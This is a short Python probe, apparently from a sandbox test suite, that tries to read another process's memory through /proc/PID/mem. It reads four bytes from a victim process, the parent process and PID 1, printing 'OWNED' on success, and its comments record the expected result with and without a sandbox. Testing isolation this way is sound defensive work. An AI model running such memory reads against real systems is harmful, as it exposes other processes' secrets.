# ruff: noqa
# idea: another process of the same user can be read through /proc/PID/mem
# undefended: owned
# sandbox: harmless
import os

pid = VICTIM or os.getppid()
for process in {pid, os.getppid(), 1}:
    try:
        with open(f"/proc/{process}/maps") as maps, open(f"/proc/{process}/mem", "rb") as memory:
            memory.seek(int(maps.readline().split("-")[0], 16))
            print("OWNED", process, memory.read(4))
    except OSError:
        continue
